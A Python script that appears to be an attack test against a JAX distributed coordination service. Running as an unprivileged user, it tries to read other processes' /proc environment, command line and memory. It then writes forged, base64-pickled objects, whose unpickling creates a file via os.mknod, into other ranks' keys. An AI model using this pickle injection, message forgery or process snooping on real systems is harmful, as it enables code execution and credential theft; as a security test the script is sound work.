"""A process of another user, 65534, which attacks two that wait for each other: ``stranger.py ADDRESS FILE PID ...``.

It reads what it can, prints it, and writes to the coordination service, in the place of rank 1, what ends the job or
makes rank 0 create the file.
"""

import base64
import os
import pathlib
import pickle
import sys
import time

from jaxlib import _jax

OTHER = (65534,) * 3  # the real, the effective and the saved user; JAX is imported before, from where it may not read
os.setgroups([])
os.setresgid(*OTHER)
os.setresuid(*OTHER)
address, path, *processes = sys.argv[1:]


class Attack:
    """An object that creates the file where it is unpickled."""

    def __reduce__(self):
        return os.mknod, (path,)


for name in ("environ", "cmdline", "mem"):
    for process in processes:
        try:
            print("read", pathlib.Path(f"/proc/{process}/{name}").read_bytes())
        except OSError as error:
            print(f"cannot read {name}:", error.strerror)
client = _jax.get_distributed_runtime_client(address, 1, init_timeout=30, shutdown_on_destruction=False)
client.connect()
values = dict(client.key_value_dir_get_bytes("msgrad/"))
print("read", values, flush=True)
text = base64.b64encode(pickle.dumps(Attack()))
signed = values["msgrad/x/all/0/1"]
signature, _, content = signed.partition(b" ")
number = content.partition(b" ")[0]
forged = [text, b"- 0 " + text, b"%b %b %b" % (signature, number, text), signed, b"\xff \xff"]
for value in forged:
    for key in ("x/all/1/1", "failed/1", "heard/1", "ended/1", "gone/1", "at/1", "alive/1", "failed/word"):
        client.key_value_set_bytes(f"msgrad/{key}", value, True)
    time.sleep(0.3)  # in which rank 0 reads it
print("has written", flush=True)
os._exit(0)  # the client would say that rank 1 ends
